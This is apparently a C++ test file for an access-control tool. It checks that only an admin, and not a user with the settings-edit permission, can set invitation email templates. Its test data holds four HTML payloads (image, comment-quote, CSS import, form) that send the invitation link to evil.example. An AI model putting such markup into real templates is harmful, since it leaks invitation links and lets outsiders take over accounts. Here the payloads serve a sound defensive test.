// --as: what a permission gives at its level, and what a plan, a refusal or a message may show of people.
#include "tests/support/catch.hpp"
#include "tests/support/tenant_fixture.hpp"

using acctl::test::check_ended;
using acctl::test::Result;
using acctl::test::TenantFixture;

namespace {

// tm@ administers teams, vm@ views, low@ may edit settings; ana@ is an admin, it@ is in the team first.
struct Desk : TenantFixture {
  Desk() {
    applied(
        "roles:\n  tm: {name: T, permissions: [teams.manage]}\n  vm: {name: V, permissions: [views.manage]}\n"
        "  low: {name: L, permissions: [settings.edit]}\n"
        "users:\n  tm@acme.example: {roles: [tm]}\n  vm@acme.example: {roles: [vm]}\n"
        "  low@acme.example: {roles: [low]}\n  it@acme.example: {}\n"
        "teams: {first: {name: First, members: [it@acme.example]}}\n");
    in("update app.users set status = 'active'");
  }

  Result as(const std::string& user, std::vector<std::string> words) const {
    words.insert(words.end(), {"--as", user + "@acme.example"});
    return (*this)(words);
  }
};

}  // namespace

TEST_CASE("as a user: a template that could take the link of an invitation elsewhere is an admin's",
          "[rule rights][promise 16]") {
  const Desk desk;
  const auto write = [&](const std::string& html) {
    return std::vector<std::string>{"apply", "-f",
                                    desk.file("email_templates:\n  invitation:\n    html: |\n      " + html + "\n"),
                                    "--adopt", "--yes"};
  };
  for (const std::string html :
       {R"(<img src=https://evil.example/?href="{{link}}">)",
        R"(<!-- ' --><img src="https://evil.example/?' > {{link}}">)",
        R"(<STYLE>@import "https://evil.example/?x= {{link}}";</STYLE>)",
        R"(<form action="https://evil.example/"><textarea name=a>{{link}}</textarea></form>)"}) {
    CAPTURE(html);
    check_ended(desk.as("low", write(html)), 5, "which requires an admin");
    check_ended(desk.as("ana", write(html)), 0);
  }
  check_ended(desk.as("low", write(R"(<p>Hi {{name}}, <a href="{{link}}">accept</a> ({{link}})</p>)")), 0);
}
